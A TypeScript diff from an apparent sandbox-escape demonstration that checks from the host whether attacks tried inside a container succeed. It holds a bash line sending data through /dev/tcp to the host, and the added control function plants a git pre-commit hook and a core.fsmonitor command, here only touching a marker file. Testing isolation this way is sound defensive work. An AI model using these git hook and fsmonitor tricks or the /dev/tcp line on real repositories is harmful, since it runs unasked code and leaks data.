@@ -1,6 +1,6 @@
 // What the demonstration tries from inside: for each attempt, the code in both languages and how to see from the
 // host whether it took effect.
-import { existsSync, readFileSync, readdirSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { homedir } from 'node:os';
 import { join } from 'node:path';
 import { git } from './project.js';
@@ -90,6 +90,32 @@ if failed: sys.exit("\\n".join(failed))`,
   bash: (s) => `for host in ${s.host} 127.0.0.1; do (echo all your code > /dev/tcp/$host/${s.port}) && echo sent; done`,
   damage: (s) => (s.visits() > 0 ? 'a server of the host was reached' : null),
 };
+
+/**
+ * The control: does by the host's own hand what the hook and the config attack try, sees that git falls for it, and
+ * puts everything back. Without it "held off" could only mean that this git obeys neither.
+ */
+export function gitObeys(s: Pick<Scene, 'root' | 'config' | 'marker'>): boolean {
+  const hook = join(s.root, '.git/hooks/pre-commit');
+  mkdirSync(join(s.root, '.git/hooks'), { recursive: true });
+  writeFileSync(hook, `#!/bin/sh\ntouch ${sh(s.marker)}\n`);
+  chmodSync(hook, 0o755);
+  const works = [
+    (): unknown => git(s.root, 'commit', '--quiet', '--allow-empty', '--message=Control'),
+    (): unknown => {
+      git(s.root, 'config', 'core.fsmonitor', `touch ${sh(s.marker)}`);
+      return git(s.root, 'status', '--short');
+    },
+  ].map((act) => {
+    act();
+    const obeyed = existsSync(s.marker);
+    rmSync(s.marker, { force: true });
+    rmSync(hook, { force: true });
+    return obeyed;
+  });
+  writeFileSync(join(s.root, '.git/config'), s.config);
+  return works.every(Boolean);
+}
 
 /** All attempts, in the order in which they are shown. */
 export const attacks: Attack[] = [hook, config, keys, network];
